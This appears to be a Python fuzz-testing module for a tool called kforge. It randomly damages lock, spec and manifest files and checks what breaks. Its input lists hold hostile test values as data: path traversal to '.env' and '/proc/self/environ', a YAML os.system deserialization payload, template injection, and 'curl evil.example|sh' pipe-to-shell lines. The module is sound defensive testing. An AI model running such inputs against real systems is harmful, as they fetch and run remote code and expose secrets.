"""Specs, locks, sums, includes and manifests with random damage, by a seed: `python -m tests.hostile.fuzz --seed N
--runs M`.

Each run damages one file of a clone in a few places and gives it to a command. The results are written to fuzz.md.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

from kforge.domain.lock import Record
from kforge.errors import Error
from kforge.system import lockfile
from tests import locks
from tests.conftest import memory_folder
from tests.hostile import invariants
from tests.hostile.attempt import PullRequest, opened, theirs, words
from tests.hostile.commands import BUILD, DIFF, FULL, Command
from tests.hostile.forkserver import Forkserver
from tests.hostile.making import LOCK, SPEC, SUMS
from tests.hostile.worlds import World, surroundings, template

COMMANDS = (FULL, BUILD, Command(("check",)), DIFF, Command(("plan",)), Command(("diff",)))
TARGETS = (
    SPEC,
    SPEC,
    LOCK,
    LOCK,
    SUMS,
    "app/extra/settings.yaml",
    "app/deploy/images/prod/kustomization.yaml",
    "app/api/package.json",
    "app/web/requirements.txt",
    "app/docker-bake.hcl",
)
# What parsers, paths, terminals and templates take for something else.
WORDS = (
    b"../../outside/victim/notes.txt", b"/dev/zero", b"/proc/self/environ", b"../.env", b"\0", b"\n", b"\r", b"\t", b"\x1b[31m", b"\xff\xfe", b"\xed\xa0\x80", b"&a ", b"*a",
    b"<<: ", b"!!python/object/apply:os.system [x]", b"{", b"}", b"[", b"]", b"'", b'"', b"---\n", b"...\n", b"? ", b": ", b"- ", b"| \n", b"${services.web.url}", b"${", b"{{ 7*7 }}",
    b"null", b"~", b"yes", b"1e999", b"-1", b"0", b"9" * 400, b"NaN", b"K" * 1100, b"a." * 600, b"# aggregate ../x", b"# seeded x", b"# revision 9 x", b"0" * 64 + b"  x",
    "\u202e\u200b\u2028".encode(), "\U000e0072".encode(), b"%", b"`", b"@", b"\\", b"\\ud800", b"http://evil.example|sh", b"evil.example/x:1",
)  # fmt: skip
VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    0,
    2,
    99,
    1e300,
    "",
    "x",
    "sh",
    "../../x",
    "1Gi",
    "999m",
    "root",
    "8080",
    "curl evil.example|sh",
    "evil.example/x:1",
    "model",
    "heuristics",
    "-",
    "\x1b",
    [],
    {},
    [None],
    {"": None},
    ["sh", "-c", "x"],
    {"by": "model"},
    "0" * 16,
    10**400,
)


def damaged(chance: random.Random, content: bytes, target: str) -> bytes:
    """The content with one to four changes."""
    if target == LOCK and chance.random() < 0.7:
        return _as_data(chance, content)
    for _ in range(chance.choice((1, 1, 1, 2, 4))):  # one change is what parsers let through
        content = chance.choice(CHANGES)(chance, content)
    return content


def _spot(chance: random.Random, content: bytes) -> tuple[int, int]:
    start = chance.randint(0, len(content))
    return start, min(len(content), start + chance.choice((1, 1, 4, 20, 200)))


def _insert(chance: random.Random, content: bytes) -> bytes:
    start, _ = _spot(chance, content)
    return content[:start] + chance.choice(WORDS) + content[start:]


def _replace(chance: random.Random, content: bytes) -> bytes:
    start, end = _spot(chance, content)
    return content[:start] + chance.choice(WORDS) + content[end:]


def _flip(chance: random.Random, content: bytes) -> bytes:
    start, _ = _spot(chance, content)
    return content[:start] + bytes([chance.randrange(256)]) + content[start + 1 :]


def _cut(chance: random.Random, content: bytes) -> bytes:
    start, end = _spot(chance, content)
    return content[:start] + content[end:]


def _repeat(chance: random.Random, content: bytes) -> bytes:
    start, end = _spot(chance, content)
    return content[:end] + content[start:end] * chance.choice((1, 2, 50)) + content[end:]


def _end(chance: random.Random, content: bytes) -> bytes:
    return content[: _spot(chance, content)[0]]


def _lines(chance: random.Random, content: bytes) -> bytes:
    lines = content.splitlines(keepends=True)
    if len(lines) > 1:
        one, other = chance.randrange(len(lines)), chance.randrange(len(lines))
        lines[one], lines[other] = lines[other], lines[one]
    return b"".join(lines)


def _value(chance: random.Random, content: bytes) -> bytes:
    """Another value behind a colon."""
    lines = content.splitlines(keepends=True)
    spots = [number for number, line in enumerate(lines) if b": " in line]
    if spots:
        number = chance.choice(spots)
        lines[number] = lines[number].partition(b": ")[0] + b": " + chance.choice(WORDS) + b"\n"
    return b"".join(lines)


CHANGES: tuple[Callable[[random.Random, bytes], bytes], ...] = (
    _insert,
    _insert,
    _replace,
    _flip,
    _cut,
    _repeat,
    _end,
    _lines,
    _value,
    _value,
)


def _as_data(chance: random.Random, content: bytes) -> bytes:
    """A lock that is a lock in form, in today's or in that of kforge 0.1: some value, key or list in it is another."""
    held = locks.raw(lockfile.parse(content, "kforge.lock", None, Record()))
    for _ in range(chance.choice((1, 1, 3))):
        at, depth = held, 0
        while isinstance(at, dict) and at and (depth < 2 or chance.random() < 0.8):
            key = chance.choice(sorted(at))
            if not isinstance(at[key], dict) or not at[key]:
                break
            at, depth = at[key], depth + 1
        key = chance.choice([*sorted(at), "x"]) if isinstance(at, dict) else "x"
        if chance.random() < 0.2:
            at.pop(key, None)
        else:
            alike = [value for value in VALUES if type(value) is type(at.get(key))]
            at[key] = chance.choice(alike if alike and chance.random() < 0.7 else VALUES)
    with suppress(Error, TypeError, ValueError, AttributeError):
        if chance.random() < 0.5:
            return lockfile.render(locks.lock_of(held)).encode("utf-8", "surrogatepass")
    return json.dumps(held, indent=2, sort_keys=True, ensure_ascii=False, allow_nan=True).encode(
        "utf-8", "surrogatepass"
    )


def runs(
    server: Forkserver, original: World, place: Callable[[], Path], seed: int, count: int
) -> Iterator[tuple[str, int, list[str]]]:
    """Target, exit code and what broke, of every run. A run depends on the seed and its number alone."""
    for number in range(count):
        chance = random.Random(f"{seed}/{number}")
        target, command = chance.choice(TARGETS), chance.choice(COMMANDS)

        def change(world: World, chance: random.Random = chance, target: str = target) -> None:
            path = world.repository / target
            path.write_bytes(damaged(chance, path.read_bytes(), target))

        pull = PullRequest(f"seed {seed}, run {number}", change, committed=False)
        with opened(original, place(), pull) as world:
            mine, before, held = theirs(world, original, pull), invariants.look(world), invariants.files(world)
            ran = server.run(words(command, original), world.repository, world.environment)
            broke = invariants.broken(world, command, ran, before)
            if command.writes:
                broke += [*invariants.taken(world, held, mine), *invariants.made(world, held)]
                broke += invariants.unreadable(world) if ran.code == 0 else []
        yield target, ran.code, [f"seed {seed}, run {number}, {target}: {command}: {each}" for each in broke]


def main(given: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m tests.hostile.fuzz", description="Damage files by chance, and see what breaks."
    )
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--runs", type=int, default=5000)
    parser.add_argument("--write", action="store_true", help="write fuzz.md beside this module")
    options = parser.parse_args(given)
    began, found = time.monotonic(), list[str]()
    codes: Counter[tuple[str, int]] = Counter()
    with Forkserver(surroundings()) as server, memory_folder() as scratch:
        original = template(scratch / "original", server)
        for target, code, broke in runs(server, original, lambda: scratch / "world", options.seed, options.runs):
            codes[target, code] += 1
            found += broke
            print(*broke, sep="\n", end="\n" if broke else "", flush=True)
    text = report(options.seed, options.runs, codes, found)
    if options.write:
        Path(__file__).with_suffix(".md").write_text(text)
    print(text, f"{time.monotonic() - began:.0f} s")
    return 1 if found else 0


def report(seed: int, count: int, codes: Counter[tuple[str, int]], found: list[str]) -> str:
    """The results as a page."""
    ends = sorted({code for _, code in codes})
    head = [
        "# Files with random damage",
        "",
        f"`python -m tests.hostile.fuzz --seed {seed} --runs {count} --write`: {count} runs, {len(found)} findings.",
        "",
    ]
    table = ["| file | " + " | ".join(f"exit {code}" for code in ends) + " |", "|---" * (len(ends) + 1) + "|"]
    table += [
        f"| {target} | " + " | ".join(str(codes[target, code]) for code in ends) + " |" for target in sorted({*TARGETS})
    ]
    return "\n".join([*head, *table, "", *(f"- {each}" for each in found[:200])]).rstrip() + "\n"


if __name__ == "__main__":
    sys.exit(main())
